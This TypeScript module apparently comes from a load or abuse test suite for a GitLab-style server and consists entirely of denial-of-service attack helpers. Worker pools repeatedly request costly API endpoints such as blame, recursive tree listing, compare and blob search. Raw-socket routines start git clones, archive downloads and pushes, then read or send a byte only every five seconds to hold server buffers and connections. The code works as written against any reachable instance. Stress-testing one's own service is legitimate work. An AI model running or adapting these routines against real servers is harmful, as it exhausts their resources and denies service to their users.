/**
 * Callers that want everything for themselves, each at full strength for as long as it is let, from one address or account.
 * Each is bounded in count and in time, and ends when it is told to.
 */
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

export type Attack = {
  /** Ends it, and waits until nothing of it runs any more. */
  stop(): Promise<void>;
  /** How many requests got each status so far; 0 are those without an answer. */
  statuses(): Record<number, number>;
};

export type Target = {
  /** The site's own. */
  url: string;
  projectId: number;
  /** Of a token; none is anonymous. */
  token?: string;
};

const LONGEST_MS = 120_000;

/** So many workers, each of which does the work again and again. */
function repeat(workers: number, work: (signal: AbortSignal) => Promise<number>): Attack {
  const ending = new AbortController();
  const timer = setTimeout(() => ending.abort(), LONGEST_MS);
  const counts: Record<number, number> = {};
  const all = Array.from({ length: workers }, async () => {
    while (!ending.signal.aborted) {
      const status = await work(ending.signal).catch(() => 0);
      counts[status] = (counts[status] ?? 0) + 1;
      // Refused at once, an attacker tries again at once; a pause keeps it from being only a test of the client.
      if (status >= 400 || status === 0) await sleep(20);
    }
  });
  return {
    statuses: () => counts,
    async stop() {
      ending.abort();
      clearTimeout(timer);
      await Promise.all(all);
    },
  };
}

const credentials = (token: string | undefined): Record<string, string> =>
  token === undefined ? {} : { 'private-token': token };

/** Asks for a path below the project, and reads the answer to its end. */
const get =
  ({ url, projectId, token }: Target, path: () => string) =>
  async (signal: AbortSignal): Promise<number> => {
    const address = `${url}/api/v4/projects/${projectId}/${path()}`;
    const response = await fetch(address, { headers: credentials(token), signal });
    await response.arrayBuffer();
    return response.status;
  };

/** Blames a large file, which should have many lines and be at `path`. */
export const blameLargeFile = (target: Target, path: string, workers = 16): Attack =>
  repeat(
    workers,
    get(target, () => `repository/files/${encodeURIComponent(path)}/blame?ref=HEAD`),
  );

/** Asks in turn for all that git has to look at whole trees and histories for; for projects with hostile objects in them. */
export function readHostileObjects(target: Target, workers = 16): Attack {
  const paths = [
    'repository/commits/HEAD/diff',
    'repository/commits/HEAD',
    'repository/commits?with_stats=true&per_page=100',
    'repository/compare?from=before&to=main',
    'repository/files/README.md/blame?ref=HEAD',
    'repository/files/README.md?ref=HEAD',
    'repository/tree?recursive=true&pagination=none',
    'repository/contributors',
    'languages',
    'search?scope=blobs&search=small',
  ];
  let next = 0;
  return repeat(
    workers,
    get(target, () => paths[next++ % paths.length] ?? ''),
  );
}

/** Bytes that a slow reader takes at once, and how long it waits then, in milliseconds. */
const SLOW = { bytes: 1, everyMs: 5_000 };

/** Sends a request by hand and reads the answer a byte at a time; the status of the answer, when it is over. */
function readSlowly(url: string, request: string, signal: AbortSignal): Promise<number> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve) => {
    const socket = connect({ host: hostname, port: Number(port) });
    let status = 0;
    const read = (): void => {
      const chunk: Buffer | null = socket.read(status === 0 ? 12 : SLOW.bytes);
      if (status === 0 && chunk) status = Number(chunk.toString('latin1').slice(9, 12));
    };
    // Nothing is read but by read(): the buffers fill, and stay so.
    socket.on('readable', () => status === 0 && read());
    const timer = setInterval(read, SLOW.everyMs);
    const end = (): void => {
      clearInterval(timer);
      signal.removeEventListener('abort', end);
      socket.destroy();
      resolve(status);
    };
    socket.once('error', end).once('close', end).once('end', end);
    signal.addEventListener('abort', end, { once: true });
    socket.write(request);
  });
}

const basic = (token: string | undefined): string =>
  token === undefined ? '' : `Authorization: Basic ${Buffer.from(`oauth2:${token}`).toString('base64')}\r\n`;

/** Begins clones of a project whose pack is larger than what buffers hold, and hardly reads them. `head` is a commit of it. */
export function cloneSlowly(target: Target, path: string, head: string, readers = 64): Attack {
  const wants = `0032want ${head}\n00000009done\n`;
  const request =
    `POST /${path}.git/git-upload-pack HTTP/1.1\r\nHost: ${new URL(target.url).host}\r\n${basic(target.token)}` +
    `Content-Type: application/x-git-upload-pack-request\r\nContent-Length: ${wants.length}\r\n\r\n${wants}`;
  return repeat(readers, (signal) => readSlowly(target.url, request, signal));
}

/** Begins downloads of an archive that is larger than what buffers hold, and hardly reads them. */
export function downloadSlowly(target: Target, readers = 64): Attack {
  const token = target.token === undefined ? '' : `PRIVATE-TOKEN: ${target.token}\r\n`;
  const request =
    `GET /api/v4/projects/${target.projectId}/repository/archive.tar HTTP/1.1\r\n` +
    `Host: ${new URL(target.url).host}\r\n${token}\r\n`;
  return repeat(readers, (signal) => readSlowly(target.url, request, signal));
}

/** Begins pushes and sends a byte now and then. `token` must be of an account that may push there. */
export function pushSlowly(target: Target, path: string, pushers = 64): Attack {
  const { hostname, port, host } = new URL(target.url);
  const command = `${'0'.repeat(40)} ${'a'.repeat(40)} refs/heads/slow\0report-status`;
  const line = `${(command.length + 4).toString(16).padStart(4, '0')}${command}0000PACK`;
  const head =
    `POST /${path}.git/git-receive-pack HTTP/1.1\r\nHost: ${host}\r\n${basic(target.token)}` +
    'Content-Type: application/x-git-receive-pack-request\r\nTransfer-Encoding: chunked\r\n\r\n' +
    `${line.length.toString(16)}\r\n${line}\r\n`;
  return repeat(
    pushers,
    (signal) =>
      new Promise((resolve) => {
        const socket = connect({ host: hostname, port: Number(port) });
        let status = 0;
        const timer = setInterval(() => socket.write('1\r\nx\r\n'), SLOW.everyMs);
        const end = (): void => {
          clearInterval(timer);
          signal.removeEventListener('abort', end);
          socket.destroy();
          resolve(status);
        };
        socket.on('data', (chunk) => {
          status = Number(chunk.toString('latin1').slice(9, 12));
          end();
        });
        socket.once('error', end).once('close', end);
        signal.addEventListener('abort', end, { once: true });
        socket.write(head);
      }),
  );
}
